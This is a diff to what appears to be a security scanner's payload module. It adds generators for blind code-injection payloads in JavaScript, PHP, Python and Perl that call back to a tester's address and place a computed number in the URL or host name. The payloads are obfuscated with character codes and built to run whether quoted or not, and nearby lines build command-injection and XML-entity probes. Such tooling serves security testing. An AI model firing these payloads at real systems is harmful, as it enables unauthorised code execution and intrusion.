@@ -156,6 +156,65 @@ export const callingCommand = (
   return `${v}$(${call})'$(${call})'`
 }
 
+/** Code that calls an address of ours and takes a product along, for results that nobody sees. */
+export interface CallingCode {
+  readonly flavour: string
+  readonly with: (address: { readonly host: string | null; readonly url: string }, a: number, b: number) => string
+}
+
+/** The product stands in the name, too: where only names leave the network, that call arrives. */
+const calledAt = ({ host, url }: { readonly host: string | null; readonly url: string }): readonly [string, string] =>
+  host === null ? [`${url}qv`, ''] : ['http://qv', `.${host}${url.slice(url.indexOf(host) + host.length)}`]
+
+/** Numbers of the characters: within either kind of quotes the code is text, and ends none. */
+const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',')
+
+/** Without quotes, in single and in double quotes: `code` stands in each as code once, and as text or comment otherwise. */
+const anywhere = (code: string, joined: string, comment: 'line' | 'block'): string => {
+  const quoted = `'${joined}'"${joined}"`
+  return comment === 'line' ? `${code}#${quoted}` : `${code}/*${quoted}*/`
+}
+
+export const CALLING_CODE: readonly CallingCode[] = [
+  {
+    // A promise that nobody looks after would end the process when it fails.
+    flavour: 'JavaScript',
+    with: (address, a, b) => {
+      const code = `fetch(\`${calledAt(address).join(`\${${a}*${b}}`)}\`).catch(()=>0)`
+      return anywhere(code, `+${code}+`, 'block')
+    },
+  },
+  {
+    flavour: 'PHP',
+    with: (address, a, b) => {
+      const text = (plain: string): string =>
+        plain === '' ? '' : `join(array_map(chr(99).chr(104).chr(114),[${codes(plain)}]))`
+      const [before, behind] = calledAt(address)
+      const url = `${text(before)}.(${a}*${b})${behind === '' ? '' : `.${text(behind)}`}`
+      const code = `file_get_contents(${url},false,stream_context_create([${text('http')}=>[${text('timeout')}=>3]]))`
+      return anywhere(code, `.${code}.`, 'block')
+    },
+  },
+  {
+    flavour: 'Python',
+    with: (address, a, b) => {
+      const text = (plain: string): string => (plain === '' ? 'str()' : `bytes((${codes(plain)},)).decode()`)
+      const [before, behind] = calledAt(address)
+      const url = `${text(before)}+str(${a}*${b})+${text(behind)}`
+      const code = `__import__(${text('urllib.request')}).request.urlopen(${url},None,3)`
+      return anywhere(code, `+str(${code})+`, 'line')
+    },
+  },
+  {
+    flavour: 'Perl',
+    with: (address, a, b) => {
+      const [before, behind] = calledAt(address)
+      const code = `((require HTTP::Tiny)&&HTTP::Tiny->new(timeout,3)->get(q(${before}).(${a}*${b}).q(${behind})))`
+      return anywhere(code, `.${code}.`, 'line')
+    },
+  },
+]
+
 /** Both ways of a parser to our address: a part of the document type, and an entity in place of the value. */
 export const callingEntity =
   (url: string) =>
